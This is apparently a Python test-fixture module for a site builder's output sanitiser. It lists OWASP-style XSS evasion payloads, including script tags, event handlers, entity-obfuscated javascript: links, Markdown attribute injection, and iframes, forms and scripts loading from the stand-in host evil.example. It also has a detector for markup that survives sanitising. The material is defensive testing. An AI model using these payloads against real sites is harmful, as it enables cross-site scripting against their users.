"""Injection cases for tests/test_safe_output.py: what a careless editor pastes or an attacker types.

Mostly from the OWASP XSS filter evasion cheat sheet: scripts in mixed case, event attributes, SVG,
entities and line breaks inside tags and links, javascript:/vbscript:/data: addresses, resources
from another host, forms, meta refresh, base, styles, and Markdown's own attribute lists and links.
``{n}`` is replaced by a number unique to the case, so that each case can be told apart in the
build's messages and in the built pages.
"""

from __future__ import annotations

import html
import re

import lxml.html

EVIL = "evil.example"

CASES = {
    "script": "<script>alert({n})</script>",
    "script-mixed-case": "<ScRiPt>alert({n})</sCrIpT>",
    "script-src": '<script src="https://evil.example/{n}.js"></script>',
    "img-onerror": '<img src=x alt="" onerror=alert({n})>',  # (alt: a missing one stops the page check first)
    "img-split-over-lines": '<img\nsrc=x alt="" onerror=alert({n})>',
    "svg-onload": "<svg onload=alert({n})></svg>",
    "svg-script": "<svg><script>alert({n})</script></svg>",
    "div-onmouseover": '<div onmouseover="alert({n})">x</div>',
    "details-ontoggle": "<details open ontoggle=alert({n})><summary>x</summary></details>",
    "a-javascript": '<a href="javascript:alert({n})">x</a>',
    "a-javascript-entity": '<a href="jav&#x61;script:alert({n})">x</a>',
    "a-javascript-tab-entity": '<a href="jav&#x09;ascript:alert({n})">x</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:alert({n})">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox({n})">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{n}">x</a>',
    "markdown-link-javascript": "[x{n}](javascript:alert({n}))",
    "markdown-image-other-host": "![x{n}](https://evil.example/{n}.png)",
    "attr-list-onclick": 'Text {n}\n{: onclick="alert({n})" }',
    "attr-list-style": 'Text {n}\n{: style="background:url(https://evil.example/{n})" }',
    "iframe": '<iframe src="https://evil.example/{n}"></iframe>',
    "object": '<object data="https://evil.example/{n}.swf"></object>',
    "embed": '<embed src="https://evil.example/{n}.swf">',
    "form-other-host": '<form action="https://evil.example/{n}"><input name="q"></form>',
    "button-formaction": '<button formaction="https://evil.example/{n}">x</button>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/{n}">',
    "base": '<base href="https://evil.example/{n}/">',
    "img-other-host": '<img src="https://evil.example/{n}.gif" alt="">',
    "img-protocol-relative": '<img src="//evil.example/{n}.gif" alt="">',
    "img-srcset-other-host": '<img src="a.png" srcset="https://evil.example/{n}.png 2x" alt="">',
    "img-data": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="{n}">',
    "video-other-host": '<video src="https://evil.example/{n}.mp4"></video>',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/{n}.css">',
    "style-block": "<style>body{background:url(https://evil.example/{n})}</style>",
    "style-attribute": '<p style="color:red">x{n}</p>',
    "input-onfocus": "<input autofocus onfocus=alert({n})>",
}


def payload(name: str, n: int) -> str:
    return CASES[name].replace("{n}", str(n))


_ON = re.compile(r"^on", re.I)
_BAD_SCHEME = re.compile(r"^\s*(javascript|vbscript|data):", re.I)
_URL_ATTRS = {"src", "srcset", "href", "action", "formaction", "data", "poster", "background", "xlink:href"}
_EMBEDS = {"iframe", "object", "embed", "base", "style", "frame", "applet"}  # (a form is caught by its action)


def live_markup(page_html: str) -> list[str]:
    """Markup that a case would leave in a built page, found independently of hooks/lib/sitebuild/check/safe_output.py:
    event attributes, style, scripts calling alert, frames/forms/base, meta refresh, javascript:,
    vbscript: or data: addresses, and anything loaded from the other host."""
    tree = lxml.html.document_fromstring(page_html)
    found = []
    for el in tree.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower()
        if tag in _EMBEDS:
            found.append(f"<{tag}>")
        if tag == "script" and ("alert(" in (el.text or "") or EVIL in (el.get("src") or "")):
            found.append("<script>")
        if tag == "meta" and (el.get("http-equiv") or "").lower() == "refresh":
            found.append("<meta refresh>")
        for name, value in el.attrib.items():
            clean = html.unescape(value).replace("\t", "").replace("\n", "")
            if _ON.match(name) or name.lower() == "style":
                found.append(f"<{tag} {name}>")
            elif _BAD_SCHEME.match(clean):
                found.append(f"<{tag} {name}={value[:30]}>")
            elif EVIL in value and name.lower() in _URL_ATTRS and not (tag == "a" and name == "href"):
                found.append(f"<{tag} {name}={value[:30]}>")
    return found
